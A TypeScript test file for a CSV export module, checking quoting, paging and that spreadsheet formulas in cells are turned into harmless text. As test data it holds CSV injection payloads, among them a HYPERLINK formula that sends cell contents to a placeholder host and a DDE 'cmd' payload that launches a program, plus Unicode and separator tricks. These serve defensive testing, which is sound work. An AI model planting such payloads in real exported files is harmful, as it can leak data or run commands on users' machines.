import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import {
  type CsvColumn,
  csvPart,
  guarded,
  unguarded,
} from '../../../../lambdas/modules/platform/csv-file.ts';

type Row = readonly string[];
const columns: readonly CsvColumn<Row>[] = ['first', 'second'].map((name, index) => ({
  name,
  cell: (row) => row[index],
}));
const whole = { isFirst: true, maxBytes: Infinity };
const rest = { isFirst: false, maxBytes: Infinity };

/** Parses with a library that shares no code with the writer. */
const read = (text: string) => parse(text, { bom: true });

describe('a file', () => {
  test('starts with a byte order mark and a header, and ends each line as RFC 4180 requires', () => {
    const { text } = csvPart(columns, [['Zoë', '東京']], whole);
    expect(text).toBe('\ufeff"first","second"\r\n"Zoë","東京"\r\n');
  });

  test('keeps commas, quotation marks, and line ends within their cell', () => {
    const row = ['Bücher; "Söhne", Inc.', 'one\r\ntwo'];
    expect(read(csvPart(columns, [row], whole).text)).toEqual([['first', 'second'], row]);
  });

  test('has an empty cell for a missing value', () => {
    expect(csvPart(columns, [['a'], ['', 'b']], rest).text).toBe('"a",\r\n,"b"\r\n');
  });

  test('is the same in parts as in one piece', () => {
    const rows = Array.from({ length: 7 }, (_, n) => [`row ${n}`, 'x']);
    const parts = [
      csvPart(columns, rows.slice(0, 3), whole),
      csvPart(columns, rows.slice(3), rest),
    ];
    expect(parts.map(({ text }) => text).join('')).toBe(csvPart(columns, rows, whole).text);
  });

  test('without rows has a header and nothing else', () => {
    expect(csvPart(columns, [], whole)).toEqual({ text: '\ufeff"first","second"\r\n', rows: 0 });
    expect(csvPart(columns, [], rest)).toEqual({ text: '', rows: 0 });
  });
});

describe('a cell that a spreadsheet would calculate', () => {
  test.each([
    '=HYPERLINK("http://x.example?"&A1,"Click")',
    '+44 20 7946 0123',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '﹢1',
    "'=1+1",
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '"=1+1"',
    ' "" =1+1',
  ])('becomes text: %j', (value) => {
    const [[cell = ''] = []] = read(csvPart(columns, [[value]], rest).text);
    expect(cell.replace("\t'=", '\t=').replace(/([\r\n])'=/, '$1=')).toBe(`'${value}`);
    expect(unguarded(cell)).toBe(value);
  });

  test.each([
    ["Mallory;=cmd|'/C calc'!A0", "Mallory;'=cmd|'/C calc'!A0"],
    ['Mallory,@SUM(A1)', "Mallory,'@SUM(A1)"],
    ['Mallory\t+1', "Mallory\t'+1"],
    ['Mallory|-1', "Mallory|'-1"],
    ['Mallory; =1', "Mallory;' =1"],
    ['Mallory;""=1', 'Mallory;\'""=1'],
    ['Mallory;＝1', "Mallory;'＝1"],
    ['one\n=1', "one\n'=1"],
    ['one\r\n- two', "one\r\n'- two"],
    ["a;'=1", "a;''=1"],
  ])('becomes text with any separator of the spreadsheet: %j', (value, shown) => {
    const [[cell = ''] = []] = read(csvPart(columns, [[value]], rest).text);
    expect(cell).toBe(shown);
    expect(unguarded(cell)).toBe(value);
  });

  test.each([
    'Engines',
    "O'Neill",
    "'quoted'",
    '3-2',
    'a=b',
    'a - b',
    'Bücher & Söhne; Inc.',
    '5" - 6"',
    "' ",
    '2030-01-01T12:00:00.000Z',
  ])('is not one of these: %j', (value) => {
    expect(read(csvPart(columns, [[value]], rest).text)).toEqual([[value, '']]);
  });
});

/** All characters with a meaning to spreadsheets, and a few without. */
const SIGNS = [
  '"',
  ',',
  ';',
  '|',
  '\r',
  '\n',
  '\t',
  '=',
  '+',
  '-',
  '@',
  "'",
  '＝',
  ' ',
  'a',
  '\u00a0',
  '\u200b',
  '\0',
];
/** Any text, with many characters that have a meaning in a CSV file. */
const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...SIGNS) }),
);
const rowsOfCells = fc.array(fc.tuple(cell, cell), { minLength: 1 });

/**
 * Parses a file like a spreadsheet that is set to other separators than the writer's. A cell that starts with a
 * quotation mark lasts until the next single one, and any text after that up to the separator also belongs to it.
 */
function cellsSplitAt(text: string, separators: string, quotes: boolean): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= text.length) {
    let shown = '';
    if (quotes && text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[++at] !== '"') break;
        shown += text[at] ?? '';
      }
    }
    while (at < text.length && !`${separators}\r\n`.includes(text[at] ?? ''))
      shown += text[at++] ?? '';
    cells.push(shown);
    at++;
  }
  return cells;
}

describe('any text', () => {
  test('is read as it was written', () => {
    fc.assert(
      fc.property(rowsOfCells, (rows) => {
        const [header, ...found] = read(csvPart(columns, rows, whole).text);
        expect(header).toEqual(['first', 'second']);
        expect(found.map((row) => row.map(unguarded))).toEqual(rows);
      }),
    );
  });

  test('is not a formula in any cell, for any separators and any characters that a spreadsheet skips', () => {
    fc.assert(
      fc.property(
        rowsOfCells,
        fc.subarray([',', ';', '\t', '|'], { minLength: 1 }),
        fc.boolean(),
        (rows, separators, quotes) => {
          const { text } = csvPart(columns, rows, whole);
          for (const shown of cellsSplitAt(text, separators.join(''), quotes)) {
            expect(shown.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '')).not.toMatch(
              /^[=+\-@＝＋－＠﹦﹢﹣﹫]/,
            );
          }
        },
      ),
      { numRuns: 1_000 },
    );
  });

  test('is restored exactly after the guard is removed, with any number of apostrophes', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(unguarded(guarded(text))).toBe(text);
        expect(unguarded(guarded(guarded(text)))).toBe(guarded(text));
      }),
      { numRuns: 1_000 },
    );
  });

  test.each(['"', ' ', "'", ";'", ';"', '\n'])(
    'of many %j takes time in proportion to its length',
    (unit) => {
      const began = performance.now();
      unguarded(guarded(unit.repeat(300_000)));
      expect(performance.now() - began).toBeLessThan(1_000);
    },
  );
});

describe('a part that would become too large', () => {
  const rows = Array.from({ length: 5 }, () => ['ä'.repeat(20), 'x']);
  const lineBytes = Buffer.byteLength(csvPart(columns, rows.slice(0, 1), rest).text);

  test('ends before the row that does not fit, and says how far it got', () => {
    const part = csvPart(columns, rows, { isFirst: false, maxBytes: 3 * lineBytes });
    expect(part.rows).toBe(3);
    expect(Buffer.byteLength(part.text)).toBe(3 * lineBytes);
  });

  test('has at least one row, so that paging always ends', () => {
    expect(csvPart(columns, rows, { isFirst: true, maxBytes: 1 }).rows).toBe(1);
  });
});
